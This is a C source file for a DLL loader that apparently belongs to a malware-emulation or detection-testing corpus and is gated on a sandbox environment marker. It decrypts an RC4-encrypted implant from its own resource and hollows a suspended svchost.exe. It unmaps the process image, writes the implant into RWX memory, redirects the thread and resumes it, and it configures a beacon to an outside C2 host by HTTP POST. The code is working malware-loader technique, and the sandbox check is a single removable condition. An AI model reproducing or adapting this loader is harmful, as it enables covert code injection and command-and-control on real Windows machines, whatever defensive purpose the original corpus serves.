/*
 * svcupd.c - combo-hollow-beacon: the DLL the dropper fetched and rundll32 runs (benign,
 * emulator-only; see ../../lineage-common/common.h).
 *
 * Export Run (rundll32's signature): its own RCDATA resource 101 (FindResourceA on its own
 * module) copied into a heap block -> RC4 in place with advapi32!SystemFunction032 (resolved with
 * GetProcAddress) -> the implant. Then hollowing: CreateProcessA svchost.exe CREATE_SUSPENDED,
 * the image base from its PEB (ReadProcessMemory), ZwUnmapViewOfSection, VirtualAllocEx RWX,
 * WriteProcessMemory of the implant and of its context block (at IMPLANT_CTX_OFFSET: function
 * pointers of this process's kernel32 and winhttp, the C2's host and path), SetThreadContext
 * (Rcx and Rip), ResumeThread. DllMain only succeeds.
 */
#include "common.h"
#include "implant.h"

#define IMPLANT_RESOURCE 101

typedef LONG (WINAPI *ZwUnmapViewOfSection_t)(HANDLE, PVOID);
typedef struct { DWORD Length, MaximumLength; PVOID Buffer; } ustring;
typedef LONG (WINAPI *SystemFunction032_t)(ustring *, ustring *);

extern IMAGE_DOS_HEADER __ImageBase;

static void wcopy(WCHAR *dst, const WCHAR *src, int max)
{
    int i;
    for (i = 0; i < max - 1 && src[i]; i++)
        dst[i] = src[i];
    dst[i] = 0;
}

static void fill(struct implant_ctx *c)
{
    HMODULE k32 = GetModuleHandleA("kernel32.dll");
    HMODULE wh = LoadLibraryA("winhttp.dll");
    c->pGetEnvironmentVariableA = (void *)GetProcAddress(k32, "GetEnvironmentVariableA");
    c->pGetComputerNameA = (void *)GetProcAddress(k32, "GetComputerNameA");
    c->pLoadLibraryA = (void *)GetProcAddress(k32, "LoadLibraryA");
    c->pGetProcAddress = (void *)GetProcAddress(k32, "GetProcAddress");
    c->pVirtualAlloc = (void *)GetProcAddress(k32, "VirtualAlloc");
    c->pVirtualProtect = (void *)GetProcAddress(k32, "VirtualProtect");
    c->pWinHttpOpen = (void *)GetProcAddress(wh, "WinHttpOpen");
    c->pWinHttpConnect = (void *)GetProcAddress(wh, "WinHttpConnect");
    c->pWinHttpOpenRequest = (void *)GetProcAddress(wh, "WinHttpOpenRequest");
    c->pWinHttpSendRequest = (void *)GetProcAddress(wh, "WinHttpSendRequest");
    c->pWinHttpReceiveResponse = (void *)GetProcAddress(wh, "WinHttpReceiveResponse");
    c->pWinHttpReadData = (void *)GetProcAddress(wh, "WinHttpReadData");
    c->pWinHttpCloseHandle = (void *)GetProcAddress(wh, "WinHttpCloseHandle");
    c->key = 0x5ec2a71bu;
    copy_str(c->marker_name, "CHAINREPLAY_SANDBOX", sizeof(c->marker_name));
    copy_str(c->marker_value, "replay-only", sizeof(c->marker_value));
    wcopy(c->agent, L"Mozilla/5.0 (Windows NT 10.0; Win64; x64)", 48);
    wcopy(c->host, L"api.example-telemetry.net", 40);
    wcopy(c->path, L"/v3/checkin", 24);
    wcopy(c->verb, L"POST", 8);
    wcopy(c->headers, L"Content-Type: application/x-www-form-urlencoded", 56);
    copy_str(c->body_prefix, "id=", sizeof(c->body_prefix));
    copy_str(c->module_arg, "C:\\Users\\Public\\combo_hollow_module.txt", sizeof(c->module_arg));
}

static DWORD hollow(const unsigned char *code, DWORD size)
{
    static struct implant_ctx ctx;
    static CONTEXT tc;
    static char cmd[] = "C:\\Windows\\System32\\svchost.exe -k netsvcs";
    STARTUPINFOA si;
    PROCESS_INFORMATION pi;
    ZwUnmapViewOfSection_t unmap;
    PVOID image = 0;
    SIZE_T written;
    unsigned char *remote;
    DWORD i;

    for (i = 0; i < sizeof(si); i++)
        ((unsigned char *)&si)[i] = 0;
    si.cb = sizeof(si);
    if (!CreateProcessA(0, cmd, 0, 0, FALSE, CREATE_SUSPENDED, 0, 0, &si, &pi))
        return 4;
    tc.ContextFlags = CONTEXT_FULL;
    if (!GetThreadContext(pi.hThread, &tc))
        return 5;
    ReadProcessMemory(pi.hProcess, (PVOID)(tc.Rdx + 0x10), &image, sizeof(image), &written);
    unmap = (ZwUnmapViewOfSection_t)(void *)GetProcAddress(GetModuleHandleA("ntdll.dll"), "ZwUnmapViewOfSection");
    if (!unmap)
        return 5;
    unmap(pi.hProcess, image);
    remote = (unsigned char *)VirtualAllocEx(pi.hProcess, 0, IMPLANT_ALLOC, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    if (!remote)
        return 6;
    fill(&ctx);
    if (!WriteProcessMemory(pi.hProcess, remote, code, size, &written) ||
        !WriteProcessMemory(pi.hProcess, remote + IMPLANT_CTX_OFFSET, &ctx, sizeof(ctx), &written))
        return 6;
    tc.Rcx = (DWORD64)remote;
    tc.Rip = (DWORD64)remote;
    if (!SetThreadContext(pi.hThread, &tc) || ResumeThread(pi.hThread) == (DWORD)-1)
        return 7;
    CloseHandle(pi.hThread);
    CloseHandle(pi.hProcess);
    return 0;
}

BOOL WINAPI DllMain(HINSTANCE inst, DWORD reason, LPVOID reserved)
{
    (void)inst;
    (void)reason;
    (void)reserved;
    return TRUE;
}

__declspec(dllexport) void CALLBACK Run(HWND hwnd, HINSTANCE inst, LPSTR text, int show)
{
    static const unsigned char key[] = "svc-upd-2024";
    HRSRC found;
    const unsigned char *data;
    unsigned char *code;
    DWORD size, i;
    SystemFunction032_t rc4;
    ustring ukey, udata;
    (void)hwnd;
    (void)inst;
    (void)text;
    (void)show;
    if (!marker_present() || IMPLANT_ALLOC <= IMPLANT_CTX_OFFSET + sizeof(struct implant_ctx))
        return;
    found = FindResourceA((HMODULE)&__ImageBase, MAKEINTRESOURCEA(IMPLANT_RESOURCE), (LPCSTR)RT_RCDATA);
    if (!found)
        return;
    size = SizeofResource((HMODULE)&__ImageBase, found);
    data = (const unsigned char *)LockResource(LoadResource((HMODULE)&__ImageBase, found));
    if (!data || size == 0 || size > IMPLANT_CTX_OFFSET)
        return;
    code = (unsigned char *)HeapAlloc(GetProcessHeap(), 0, size);
    if (!code)
        return;
    for (i = 0; i < size; i++)
        code[i] = data[i];
    rc4 = (SystemFunction032_t)(void *)GetProcAddress(LoadLibraryA("advapi32.dll"), "SystemFunction032");
    if (!rc4)
        return;
    ukey.Length = ukey.MaximumLength = sizeof(key) - 1;
    ukey.Buffer = (PVOID)key;
    udata.Length = udata.MaximumLength = size;
    udata.Buffer = code;
    if (rc4(&udata, &ukey) != 0)
        return;
    hollow(code, size);
}
